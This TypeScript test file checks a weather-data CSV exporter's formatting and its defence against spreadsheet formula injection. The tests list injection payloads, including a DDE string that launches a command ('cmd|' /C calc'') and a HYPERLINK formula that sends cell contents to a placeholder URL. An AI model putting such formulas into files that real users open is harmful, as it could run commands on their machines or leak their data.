import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { resolveUnits } from '@mesonet/model/units.js';
import type { TrendBlock } from '../trend-blocks.js';
import { trendCsv } from './trend-csv.js';
import { parseTrendKeys } from '../trend-keys.js';
import { unicodeText } from '../../../../test/support/unicode-text.js';

const TIME = Date.parse('2025-06-01T12:00:00Z');

async function* given(blocks: readonly TrendBlock[]): AsyncGenerator<TrendBlock> {
  for (const block of blocks) yield await Promise.resolve(block);
}

/** @param rows one value for each key */
async function fileOf(keys: string, rows: (number | string | null)[][], units: Record<string, string> = {}) {
  const choice = resolveUnits(units);
  const unitKeys = parseTrendKeys(keys).map((key) => ({
    ...key,
    unit: choice.unitFor(key.measurement.mClass),
  }));
  const blocks = rows.map((row, i) => ({
    time: [TIME + i * 60_000],
    columns: unitKeys.map(({ key }, column) => ({ key, values: [row[column]!] })),
  }));
  const file = { plan: { keys: unitKeys }, blocks: given(blocks) };
  return (await text(trendCsv(file, 'America/New_York'))).split('\r\n');
}

describe('trendCsv', () => {
  it('heads columns with label, statistic and unit', async () => {
    const [head] = await fileOf('temperature,temperature.max,temperature.count,precipitationType.first', []);
    expect(head).toBe(
      'Time,Temperature (°F),Temperature max (°F),Temperature count,Precipitation Type first',
    );
  });

  it('writes station time, and as many digits as a unit has on screen', async () => {
    const lines = await fileOf(
      'temperature,stationPressure,temperature.count',
      [[72.4444, 29.87654, 12]],
      {},
    );
    expect(lines).toEqual([expect.stringContaining('Time,'), '2025-06-01T08:00:00-04:00,72.4,29.877,12', '']);
  });

  it('leaves a gap empty, a row of gaps out, and the sign off a zero', async () => {
    const lines = await fileOf('temperature,dewPoint', [
      [null, -0.01],
      [null, null],
      [-12.34, null],
    ]);
    expect(lines.slice(1)).toEqual([
      '2025-06-01T08:00:00-04:00,,0.0',
      '2025-06-01T08:02:00-04:00,-12.3,',
      '',
    ]);
  });

  it.each([
    ['rain', 'rain'],
    ['=HYPERLINK("x")', `"'=HYPERLINK(""x"")"`],
    ['@x', "'@x"],
    ['-1', "'-1"],
    ['\tled', "'\tled"],
    ['one, "two"\nthree', '"one, ""two""\nthree"'],
  ])('writes the text %j so that it is read as that text: %j', async (value, written) => {
    const lines = await fileOf('precipitationType.last', [[value]]);
    expect(lines.slice(1).join('\r\n')).toBe(`2025-06-01T08:00:00-04:00,${written}\r\n`);
  });
});

/** Parses a file of one row and returns its cells without the time. */
async function cellsOf(keys: string, row: (number | string | null)[]): Promise<string[]> {
  const [, cells, ...more]: string[][] = parse((await fileOf(keys, [row])).join('\r\n'));
  expect(more).toEqual([]);
  return cells!.slice(1);
}

describe('a cell that somebody else wrote', () => {
  const COMMANDS = ['1+1', 'HYPERLINK("http://x/?"&A1,"open")', "cmd|' /C calc'!A0", 'SUM(A1:A9)*1', '"'];
  const LEADS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
  const payloads = LEADS.flatMap((lead) => COMMANDS.map((command) => lead + command));

  it.each(payloads)('%j is no formula, and is read as that text behind a quote', async (payload) => {
    const [text, temperature] = await cellsOf('precipitationType.last,temperature', [payload, -12.3]);
    expect([text, temperature]).toEqual([`'${payload}`, '-12.3']);
  });

  it('is read as it is where it is none, and never as two', async () => {
    const text = fc.oneof(
      unicodeText(),
      fc.string({ unit: fc.constantFrom('=', '-', ',', ';', '"', "'", '\r', '\n', '\t', 'a', ' ') }),
    );
    const property = fc.asyncProperty(text, async (written) => {
      const isFormula = LEADS.some((lead) => written.startsWith(lead));
      const cells = await cellsOf('temperature,precipitationType.last,dewPoint', [1, written, 2]);
      expect(cells).toEqual(['1.0', isFormula ? `'${written}` : written, '2.0']);
    });
    await fc.assert(property);
  });

  it('is no number: those stay bare, whatever their sign', async () => {
    const property = fc.asyncProperty(fc.double({ min: -1e9, max: 1e9, noNaN: true }), async (value) => {
      const [cell] = await cellsOf('temperature', [value]);
      expect(cell).toMatch(/^-?\d+\.\d$/);
      expect(Math.abs(Number(cell) - value)).toBeLessThanOrEqual(0.05 + 1e-6);
    });
    await fc.assert(property);
  });
});
